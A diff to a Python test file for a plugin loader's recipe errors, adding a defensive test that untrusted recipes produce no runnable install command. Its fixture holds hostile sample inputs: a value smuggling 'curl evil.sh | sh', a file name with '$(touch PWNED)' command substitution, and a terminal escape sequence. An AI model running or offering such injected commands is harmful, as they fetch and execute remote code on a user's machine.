@@ -17,6 +17,9 @@ def installed():
     return registry()
 
 
+MORE = "A plugin of your own can bring more: nascore new-plugin --help."
+
+
 def write(folder, text, name="main.yaml"):
     path = folder / name
     path.write_text(f"nascore: 1\n{text}", encoding="utf-8")
@@ -33,7 +36,7 @@ def refused(installed, kind, **asked):
     ("slot", "name", "distribution"),
     [
         ("updater", "geonas", "nascore-geonas"),
-        ("dataset", "cifar10", "nascore-vision"),
+        ("space", "mbconv", "nascore-spaces"),
         ("updater", "nascore-geonas:geonas", "nascore-geonas"),
     ],
 )
@@ -132,7 +135,12 @@ def test_a_missing_component_of_a_slot_that_plays_no_part_is_no_matter(installed
     ("source", "cure", "missing"),
     [
         ("files/idea.py", "Add --with {folder}/files/idea.py.", ""),
-        ("their-idea==1.0", "pip install their-idea", "their-idea"),
+        (
+            "their-idea==1.0",
+            "The recipe names their-idea==1.0: install it if you know its authors.",
+            "their-idea",
+        ),
+        ("nascore-data==1.0", "pip install nascore-data", "nascore-data"),
     ],
 )
 def test_a_recipe_says_with_which_plugin_it_was_made(installed, tmp_path, source, cure, missing):
@@ -142,7 +150,7 @@ def test_a_recipe_says_with_which_plugin_it_was_made(installed, tmp_path, source
     assert problem.text == (
         "no updater is called mine; the recipe was made with the plugin idea, which is not loaded."
     )
-    known = "Installed: darts, data, uniform, xnas."
+    known = f"Installed: darts, data, uniform, xnas. {MORE}"
     assert (problem.hint, problem.missing) == (f"{known} {cure.format(folder=tmp_path)}", missing)
     assert problem.origin.where == f"{path}:3:10"
 
@@ -213,5 +221,24 @@ def test_a_plugin_of_a_recipe_that_is_there_and_not_ready_is_not_to_be_installed
     idle = Plugin(name="idea", value="x", distribution="x", status="broken", reason="so", cure="Do that.")
     path = write(tmp_path, "plugins: {idea: x==1.0}\nupdater: qqq\n")
     [problem] = refused(Registry([*installed.plugins, idle]), PluginError, recipe=path).problems
-    assert problem.hint.endswith("uniform, xnas. idea is broken: so. Do that.")
+    assert problem.hint.endswith(f"uniform, xnas. {MORE} idea is broken: so. Do that.")
     assert problem.missing == ""
+
+
+EVIL = """
+updater: darts
+plugins:
+  x: "evil-pkg; curl evil.sh | sh; echo ==1"
+  y: "$(touch PWNED).py"
+  "z\\e[31m": "a\\nb==1"
+"""
+
+
+def test_a_strangers_recipe_writes_no_command(installed, tmp_path):
+    path = write(tmp_path, EVIL)
+    error = str(refused(installed, RecipeError, recipe=path))
+    assert "plugins.x: 'evil-pkg; curl evil.sh | sh; echo ==1' is neither DISTRIBUTION==VERSION" in error
+    assert f"--with '{tmp_path}/$(touch PWNED).py'" in error
+    assert "pip install" not in error
+    assert "\x1b" not in error
+    assert "'z\\x1b[31m' is no name of a plugin" in error
